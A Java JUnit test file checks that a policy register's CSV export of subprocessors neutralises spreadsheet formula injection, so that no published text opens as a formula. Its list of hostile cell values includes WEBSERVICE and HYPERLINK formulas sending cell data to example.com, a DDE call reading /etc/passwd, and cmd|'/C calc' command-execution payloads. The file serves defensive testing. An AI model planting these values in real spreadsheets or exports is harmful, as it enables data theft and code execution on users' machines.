package register.read;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The CSV of a policy whose texts are formulas, in a real spreadsheet program: each cell is the published text, and
/// none is computed.
class SpreadsheetTest {
    private static final String COMMA = "44";

    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "=HYPERLINK(\"https://example.com/?\"&A1;\"Click\")",
            "=WEBSERVICE(\"https://example.com/\"&A1)",
            "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
            "=cmd|'/C calc'!A0",
            "+cmd|'/C calc'!A0",
            "\uFF1D1+1",
            "x;=1+1",
            "x; =1+1",
            "x,=1+1",
            "x\",=1+1,\"",
            "\"=1+1\"",
            "'=1+1",
            " =1+1",
            "\u00a0=1+1",
            "{=1+1}",
            "\t=1+1",
            "x\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "x\n=1+1",
            "x;\n=1+1",
            "\r\n=1+1");

    @TempDir
    private Path folder;

    /// Each version prefixes each of its texts with one hostile text.
    private static List<String> hostileLists() {
        var lists = new ArrayList<String>();
        for (String text : HOSTILE) {
            var register = new TestRegister();
            register.acceptedBeforeTheRules("2026-01-01T00:00:00Z", Policies.desk("2026-02-01", words -> text + words));
            register.clock.set(Story.NOW);
            lists.add(
                    register.get("/v1/policies/desk/subprocessors.csv?lang=en").body());
        }
        return lists;
    }

    /// Excel begins a formula with more characters than the spreadsheet here.
    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"})
    void whateverBeginsAFormulaSomewhereIsText(String begins) {
        var register = new TestRegister();
        register.acceptedBeforeTheRules("2026-01-01T00:00:00Z", Policies.desk("2026-02-01", words -> begins + words));
        register.clock.set(Story.NOW);
        String list =
                register.get("/v1/policies/desk/subprocessors.csv?lang=en").body();
        assertTrue(list.contains("'" + begins), list);
        assertFalse(list.contains("," + begins) || list.contains("\"" + begins), list);
    }

    /// The separators that a spreadsheet program may use: its locale's, or all that it knows.
    @ParameterizedTest
    @ValueSource(strings = {COMMA, "59", "9", "44/59/9"})
    void noCellIsAFormula(String separators) throws Exception {
        List<Spreadsheet> opened = Spreadsheet.open(separators, folder, hostileLists());
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertEquals(List.of(), opened.get(i).formulas(), HOSTILE.get(i));
            assertTrue(opened.get(i).rows().size() > 3, HOSTILE.get(i));
        }
    }

    @Test
    void everyCellIsTheTextThatWasPublished() throws Exception {
        List<String> lists = hostileLists();
        List<Spreadsheet> opened = Spreadsheet.open(COMMA, folder, lists);
        for (int i = 0; i < lists.size(); i++) {
            List<List<String>> sent = Csv.parse(lists.get(i));
            assertEquals(
                    sent.stream().map(SpreadsheetTest::shown).collect(Collectors.joining("\n")),
                    opened.get(i).texts().stream().map(SpreadsheetTest::shown).collect(Collectors.joining("\n")),
                    HOSTILE.get(i));
            String purpose = sent.get(1).get(sent.getFirst().indexOf("purpose"));
            assertTrue(purpose.replace("'", "").startsWith(HOSTILE.get(i).replace("'", "")), purpose);
        }
    }

    /// Checks that this test would detect a formula.
    @Test
    void aFormulaWouldBeSeen() throws Exception {
        List<Spreadsheet> opened =
                Spreadsheet.open(COMMA, folder, List.of("a,b\r\n=1+1,\"=WEBSERVICE(\"\"x\"\")\"\r\n", "a\r\n1\r\n"));
        assertEquals(2, opened.getFirst().formulas().size());
        assertFalse(opened.getFirst().formulas().getFirst().text().contains("="));
        assertEquals(List.of(), opened.getLast().formulas());
    }

    /// A row without the empty cells at its end. A spreadsheet program normalizes line breaks, and writes booleans in
    /// capitals.
    private static String shown(List<String> row) {
        int size = row.size();
        while (size > 0 && row.get(size - 1).isEmpty()) {
            size--;
        }
        return row.subList(0, size).stream()
                .map(cell -> cell.equals("true") || cell.equals("false") ? cell.toUpperCase(Locale.ROOT) : cell)
                .collect(Collectors.joining("|"))
                .replaceAll("\r\n?", "\n");
    }
}
